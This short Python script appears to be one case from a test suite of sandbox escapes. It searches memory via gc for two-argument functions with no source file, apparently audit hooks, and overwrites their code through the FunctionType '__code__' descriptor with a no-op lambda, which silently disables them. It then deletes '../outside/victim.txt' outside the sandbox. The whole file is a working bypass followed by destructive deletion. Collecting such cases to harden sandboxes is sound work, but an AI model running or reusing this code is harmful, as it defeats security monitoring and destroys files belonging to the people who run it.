# The same through the descriptor of the attribute, which no attribute lookup shows.
# damage: deleted
import gc
import os
import types

replace = vars(types.FunctionType)["__code__"].__set__
for function in [item for item in gc.get_objects() if isinstance(item, types.FunctionType)]:
    code = function.__code__
    if code.co_argcount == 2 and not os.path.exists(code.co_filename) and "frozen" not in code.co_filename:
        try:
            replace(function, (lambda event, arguments: None).__code__.replace(co_freevars=code.co_freevars))
        except Exception:
            pass
os.unlink("../outside/victim.txt")
